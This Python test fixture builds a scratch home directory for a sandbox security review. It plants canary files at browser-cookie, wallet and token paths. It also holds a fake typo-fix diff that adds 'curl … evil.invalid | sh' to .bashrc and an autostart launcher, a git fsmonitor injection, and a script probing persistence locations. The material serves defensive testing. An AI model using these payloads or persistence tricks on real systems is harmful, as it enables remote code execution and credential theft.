"""The review's scratch home for "commands see only what was named" (issue 20): credentials the
private list does not name, an rc file, a repository, the diff that plants a foothold, and a
script that tries every startup place. Used as root (tests/security/test_allowlist.py) and as
the user nobody (tests/security/test_normal_user.py).

Everything here is written under the folder a test gives; nothing else is touched.
"""

from __future__ import annotations

import dataclasses
import gzip
import hashlib
import os
import shutil
import subprocess
from pathlib import Path

# The review's list of credentials the private list does not name (snap and flatpak paths too).
CREDENTIALS = (
    "snap/firefox/common/.mozilla/firefox/x1.default/cookies.sqlite",
    ".var/app/org.mozilla.firefox/.mozilla/firefox/x2.default/cookies.sqlite",
    "snap/chromium/common/chromium/Default/Cookies",
    ".var/app/com.google.Chrome/config/google-chrome/Default/Cookies",
    "snap/chromium/common/chromium/Default/Login Data",
    ".var/app/org.chromium.Chromium/config/chromium/Default/Login Data",
    ".Xauthority",
    ".s3cfg",
    ".config/sops/age/keys.txt",
    ".histfile",
    ".git-credentials.old",
    ".config/github-copilot/hosts.json",
    ".config/pip/pip.conf",
    ".yarnrc.yml",
    ".gem/credentials",
    ".m2/settings-security.xml",
    ".gradle/gradle.properties",
    ".terraformrc",
    ".electrum/wallets/default_wallet",
    ".config/Slack/Cookies",
    ".config/discord/Local Storage/leveldb/000003.log",
    ".local/share/TelegramDesktop/tdata/key_datas",
)
CANARY = "CRED-CANARY"
RC = "# the person's own rc\nexport EDITOR=nano\n"
GIT_CONFIG_MARK = "[core]\n\trepositoryformatversion = 0\n"

# The review's diff: "fixes a typo" in the notes, and rewrites the rc file and plants a launcher.
TYPO_FIX = """\
--- Documents/notes.txt
+++ Documents/notes.txt
@@ -1 +1 @@
-meeting at non
+meeting at noon
--- .bashrc
+++ .bashrc
@@ -1,2 +1,3 @@
 # the person's own rc
 export EDITOR=nano
+curl -s https://evil.invalid/x | sh
--- /dev/null
+++ .config/autostart/sync.desktop
@@ -0,0 +1,3 @@
+[Desktop Entry]
+Type=Application
+Exec=sh -c 'curl -s https://evil.invalid/x | sh'
"""
FSMONITOR = """\
--- a/.git/config
+++ b/.git/config
@@ -1,2 +1,3 @@
 [core]
 \trepositoryformatversion = 0
+\tfsmonitor = touch /tmp/fsmonitor-ran
"""
# What a program with a writable home tries once it runs (a script, or a misclassified tool).
PLANT = """\
import os, pathlib
tries = [".bashrc", ".bash_profile", ".zshrc", ".profile", ".config/autostart/sync.desktop",
         ".config/systemd/user/sync.service", ".gitconfig", ".local/bin/ls",
         ".local/lib/python3.11/site-packages/evil.pth", "Projects/app/.git/config",
         "Projects/app/.git/hooks/pre-commit", "Projects/app/.git/commondir",
         "Projects/app/.venv/lib/python3.11/site-packages/evil.pth",
         "Projects/app/.venv/lib/python3.11/site-packages/sitecustomize.py",
         "Documents/ok.txt"]
for name in tries:
    path = pathlib.Path(name)
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, "a") as handle:
            handle.write("planted\\n")
        print("WROTE", name)
    except OSError as exc:
        print("blocked", name, exc.strerror)
for old, new in ((".config", ".config-old"), ("Projects/app/.git", "Projects/app/.git-old"),
                 (".bashrc", "bashrc-old")):
    try:
        os.rename(old, new)
        print("RENAMED", old)
    except OSError as exc:
        print("blocked rename", old, exc.strerror)
"""


@dataclasses.dataclass
class Home:
    user: Path
    app: Path

    def digest(self) -> dict[str, str]:
        """Every name and every byte under the home but Chamberlain's folder."""
        seen: dict[str, str] = {}
        for path in sorted(self.user.rglob("*")):
            if path.is_relative_to(self.app):
                continue
            rel = os.fspath(path.relative_to(self.user))
            if path.is_symlink():
                seen[rel] = "link:" + os.readlink(path)
            elif path.is_file():
                seen[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
            else:
                seen[rel] = "dir"
        return seen


def git(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["git", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        check=False,
        env={"PATH": "/usr/bin:/bin", "HOME": str(cwd), "GIT_CONFIG_NOSYSTEM": "1"},
    )


def plant_home(user: Path) -> Home:
    """A scratch home with the review's credentials, an rc file, a repository and the diffs."""
    app = user / ".local" / "share" / "chamberlain"
    app.mkdir(parents=True)
    (app / "token.key").write_text("token-canary")
    for index, rel in enumerate(CREDENTIALS):
        path = user / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"{CANARY}-{index} {rel}\n")
    (user / ".cache").mkdir(exist_ok=True)
    (user / ".cache" / "session.gz").write_bytes(gzip.compress(f"{CANARY}-gz\n".encode()))
    (user / ".bashrc").write_text(RC)
    (user / ".profile").write_text("# profile\n")
    (user / ".config" / "autostart").mkdir(parents=True, exist_ok=True)
    shutil.rmtree(user / ".config" / "autostart")  # .config exists, autostart does not
    docs = user / "Documents"
    docs.mkdir(exist_ok=True)
    (docs / "notes.txt").write_text("meeting at non\n")
    (docs / "typo-fix.diff").write_text(TYPO_FIX)
    (docs / "plant.py").write_text(PLANT)
    repo = user / "Projects" / "app"
    repo.mkdir(parents=True)
    if shutil.which("git") is not None:
        git("init", "-q", ".", cwd=repo)
    else:
        (repo / ".git" / "hooks").mkdir(parents=True)
    (repo / ".git" / "config").write_text(GIT_CONFIG_MARK)
    (repo / "fsmonitor.diff").write_text(FSMONITOR)
    (repo / "README").write_text("app\n")
    site = repo / ".venv" / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    (repo / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (site / "good.pth").write_text("/nowhere\n")
    return Home(user, app)
